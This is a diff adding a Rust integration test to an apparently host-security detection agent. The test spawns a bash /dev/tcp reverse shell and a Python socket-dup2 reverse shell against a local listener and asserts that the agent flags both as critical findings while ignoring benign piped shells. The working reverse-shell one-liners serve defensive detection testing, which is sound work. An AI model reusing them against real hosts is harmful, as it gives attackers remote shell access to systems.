@@ -1615,3 +1615,115 @@ async fn a_self_deleting_dropper_has_its_hash_needs_root() {
         exec.attributes
     );
 }
+
+/// A reverse shell — `bash -i >& /dev/tcp/…`, and a python one-liner that
+/// `dup2`s a socket over its standard streams and execs `sh` — raises
+/// `process.reverse_shell` within seconds, naming the peer; a bash reading a
+/// pipe, and a shell whose output goes to a unix socket, stay quiet.
+#[tokio::test(flavor = "multi_thread")]
+async fn reverse_shells_are_found_and_shells_on_pipes_are_not_needs_root() {
+    if !bannin_tests::runnable(&[
+        bannin_tests::Need::Root,
+        bannin_tests::Need::Program("python3", "python3"),
+    ]) {
+        return;
+    }
+    let dir = tempfile::tempdir().expect("tempdir");
+    let pki = TestPki::new(dir.path());
+    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
+    let agent = start_agent(
+        &dir.path().join("agent"),
+        &pki.agent("shell-host"),
+        collector.addr,
+        &AgentOptions {
+            net_listener: false,
+            enable: vec!["process"],
+            interval_secs: 600,
+            ..AgentOptions::default()
+        },
+    );
+    let client = operator_client(&pki.operator("alice"), collector.addr).await;
+    eventually(Duration::from_secs(60), "exec telemetry", || {
+        let mut c = client.clone();
+        async move {
+            (!all_events(&mut c, "shell-host", "process.exec")
+                .await
+                .is_empty())
+            .then_some(())
+        }
+    })
+    .await;
+    // The attacker's end: a listener that holds each shell's connection open.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
+    let port = listener.local_addr().expect("addr").port();
+    let held = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let keep = held.clone();
+    std::thread::spawn(move || {
+        for peer in listener.incoming().flatten() {
+            bannin_proto::lock(&keep).push(peer);
+        }
+    });
+    // Quiet: a bash reading a pipe; a shell writing to a unix socket.
+    let piped = Command::new("/bin/bash")
+        .args(["-c", "echo 'sleep 3' | bash"])
+        .status()
+        .expect("piped bash");
+    assert!(piped.success());
+    let (unix_a, _unix_b) = std::os::unix::net::UnixStream::pair().expect("socketpair");
+    let mut on_unix = Command::new("/bin/sh")
+        .args(["-c", "sleep 3"])
+        .stdout(std::process::Stdio::from(std::os::fd::OwnedFd::from(
+            unix_a,
+        )))
+        .spawn()
+        .expect("sh on a unix socket");
+
+    let bash = Reaped(
+        Command::new("/bin/bash")
+            .args([
+                "-c",
+                &format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
+            ])
+            .spawn()
+            .expect("bash reverse shell"),
+    );
+    let script = format!(
+        "import os, socket\ns = socket.create_connection(('127.0.0.1', {port}))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nos.execv('/bin/sh', ['sh', '-i'])\n"
+    );
+    let python = Reaped(
+        Command::new("python3")
+            .args(["-c", &script])
+            .spawn()
+            .expect("python reverse shell"),
+    );
+    let pids = [bash.0.id().to_string(), python.0.id().to_string()];
+    let found = eventually(Duration::from_secs(15), "both reverse shells", || {
+        let mut c = client.clone();
+        let pids = pids.clone();
+        async move {
+            let shells: Vec<v1::Finding> = all_findings(&mut c)
+                .await
+                .into_iter()
+                .filter(|f| f.kind == "process.reverse_shell")
+                .collect();
+            pids.iter()
+                .all(|p| shells.iter().any(|f| f.attributes.get("pid") == Some(p)))
+                .then_some(shells)
+        }
+    })
+    .await;
+    for f in &found {
+        assert_eq!(f.severity, v1::Severity::Critical as i32, "{f:?}");
+        assert_eq!(f.attributes["remote_address"], "127.0.0.1", "{f:?}");
+        assert_eq!(f.attributes["remote_port"], port.to_string(), "{f:?}");
+        assert_eq!(f.attributes["attack.technique"], "T1059.004");
+    }
+    assert_eq!(
+        found.len(),
+        2,
+        "only the two reverse shells: {found:?}; agent log:\n{}",
+        agent.log_text()
+    );
+    let _ = on_unix.wait();
+    drop(held);
+}
